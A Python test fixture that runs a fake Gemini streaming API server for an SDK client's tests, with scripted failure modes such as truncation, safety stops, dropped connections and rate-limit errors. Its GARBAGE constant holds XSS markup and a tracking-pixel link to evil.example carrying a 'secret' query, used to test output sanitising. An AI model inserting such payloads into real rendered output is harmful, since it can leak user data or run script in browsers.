"""A small stateful stand-in for Google's Gemini API on loopback, for the real SDK to talk to.

In a test: `fake.script(Answer(...))` decides the next answer, `fake.calls` tells what was asked and whether the caller
went away. As a process: `python -m tests.fake_gemini PORT` answers every prompt with the words of DEFAULT_WORDS;
`POST /script` decides the next answer: {"knob": one of KNOBS}, {"text", "finish"?, "pause"?, "cut"?}, which is
said word by word, or the fields of Answer themselves; `GET /calls` tells the calls.
"""

from __future__ import annotations

import asyncio
import json
import re
import sys
import time
from collections import deque
from collections.abc import Callable
from dataclasses import asdict, dataclass, field
from typing import Any

import uvicorn
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import JSONResponse, Response
from starlette.routing import Route
from starlette.types import Receive, Scope, Send

DEFAULT_WORDS = ["Words ", "from ", "a ", "fake ", "Gemini."]


def chunk(text: str | None = None, finish: str | None = None, *, thought: bool = False) -> dict[str, Any]:
    """One chunk of a streamed answer, as Gemini sends it."""
    candidate: dict[str, Any] = {"index": 0}
    if text is not None:
        candidate["content"] = {"role": "model", "parts": [{"text": text, **({"thought": True} if thought else {})}]}
    if finish is not None:
        candidate["finishReason"] = finish
    usage = {"promptTokenCount": 11, "candidatesTokenCount": 7, "totalTokenCount": 18}
    return {"candidates": [candidate], "usageMetadata": usage, "modelVersion": "fake"}


def words(*texts: str, finish: str = "STOP") -> list[dict[str, Any]]:
    """An answer in pieces with its finish."""
    return [*(chunk(text) for text in texts), chunk("", finish)]


def error(code: int, status: str, message: str, *details: dict[str, Any]) -> dict[str, Any]:
    """An error as Google words it."""
    return {"error": {"code": code, "message": message, "status": status, "details": list(details)}}


@dataclass
class Answer:
    """What to answer. `pause` is the time before each chunk in seconds; `before` that before the headers."""

    chunks: list[dict[str, Any]] = field(default_factory=lambda: words(*DEFAULT_WORDS))
    status: int = 200
    body: dict[str, Any] | None = None
    pause: float = 0.0
    before: float = 0.0
    cut: bool = False


def spoken(text: str, finish: str = "STOP", **more: Any) -> Answer:
    """A text said word by word."""
    return Answer(words(*re.findall(r"\s*\S+\s*", text), finish=finish), **more)


GARBAGE = (
    "<script>document.title = 'owned'</script>\n\n![pixel](https://evil.example/p.png?q=secret) "
    "<img src=x onerror=\"document.title='owned'\"> [click](javascript:alert(1)) [more](https://evil.example/a)\n\n"
    "| a | b |\n|---|---|\n| 1 |\n\n######## \u0000\u202e ``` **[unclosed](\n\n- \n  - [ ] x\n\ud800"
)
"""Markdown that is broken, and that would reach out if anybody let it."""

KNOBS: dict[str, Callable[[], Answer]] = {
    "empty": lambda: Answer(words("\n")),
    "length": lambda: spoken("Half of what was to", "MAX_TOKENS"),
    "safety": lambda: spoken("Half of what was to", "SAFETY"),
    "cut": lambda: Answer([chunk("Half of "), chunk("what was to")], cut=True),
    "garbage": lambda: spoken(GARBAGE),
    "slow": lambda: spoken("Slowly, one word after the other, comes all of this text. " * 20, pause=0.25),
    "error": lambda: Answer(status=500, body=error(500, "INTERNAL", "out of order")),
    "busy": lambda: Answer(status=429, body=error(429, "RESOURCE_EXHAUSTED", "Quota")),
}
"""Ways to go wrong, by name."""


def scripted(given: dict[str, Any]) -> Answer:
    """The answer that `POST /script` describes."""
    if "knob" in given:
        return KNOBS[given["knob"]]()
    return spoken(**given) if "text" in given else Answer(**given)


@dataclass
class Call:
    """One call: what was asked, and when the caller went away before the end, in monotonic seconds."""

    model: str
    key: str
    body: dict[str, Any]
    aborted_at: float | None = None
    sent: int = 0
    ended: bool = False


class FakeGemini:
    """The state and the app."""

    def __init__(self) -> None:
        self.calls: list[Call] = []
        self._answers: deque[Answer] = deque()
        self.app = Starlette(
            routes=[
                Route("/v1beta/models/{model}:streamGenerateContent", self._stream, methods=["POST"]),
                Route("/script", self._script, methods=["POST"]),
                Route("/calls", self._calls),
            ]
        )

    def script(self, *answers: Answer) -> None:
        """Decides the next answers; after them come default ones."""
        self._answers.extend(answers)

    def reset(self) -> None:
        """Forgets everything."""
        self.calls.clear()
        self._answers.clear()

    async def _stream(self, request: Request) -> Response:
        assert request.query_params["alt"] == "sse"
        call = Call(request.path_params["model"], request.headers.get("x-goog-api-key", ""), await request.json())
        self.calls.append(call)
        return _Streamed(call, self._answers.popleft() if self._answers else Answer())

    async def _script(self, request: Request) -> Response:
        self.script(scripted(await request.json()))
        return Response(status_code=204)

    async def _calls(self, _: Request) -> Response:
        return JSONResponse([asdict(call) for call in self.calls])


class _Streamed(Response):
    def __init__(self, call: Call, answer: Answer) -> None:
        super().__init__()
        self._call = call
        self._answer = answer

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        speaking = asyncio.create_task(self._speak(send))
        leaving = asyncio.create_task(_until_left(receive))
        await asyncio.wait({speaking, leaving}, return_when=asyncio.FIRST_COMPLETED)
        if not speaking.done():
            self._call.aborted_at = time.monotonic()
        for task in (speaking, leaving):
            task.cancel()
        await asyncio.wait({speaking, leaving})
        self._call.ended = True

    async def _speak(self, send: Send) -> None:
        answer = self._answer
        await asyncio.sleep(answer.before)
        streamed = answer.body is None
        kind = b"text/event-stream" if streamed else b"application/json"
        start = {"type": "http.response.start", "status": answer.status, "headers": [(b"content-type", kind)]}
        await send(start)
        if not streamed:
            await send({"type": "http.response.body", "body": json.dumps(answer.body).encode()})
            return
        for item in answer.chunks:
            await asyncio.sleep(answer.pause)
            line = f"data: {json.dumps(item)}\r\n\r\n".encode()
            await send({"type": "http.response.body", "body": line, "more_body": True})
            self._call.sent += 1
        if answer.cut:
            raise ConnectionResetError  # uvicorn closes the connection in the middle of the answer.
        await send({"type": "http.response.body", "body": b""})


async def _until_left(receive: Receive) -> None:
    while (await receive())["type"] != "http.disconnect":
        pass


if __name__ == "__main__":
    uvicorn.run(FakeGemini().app, port=int(sys.argv[1]), log_level="warning")
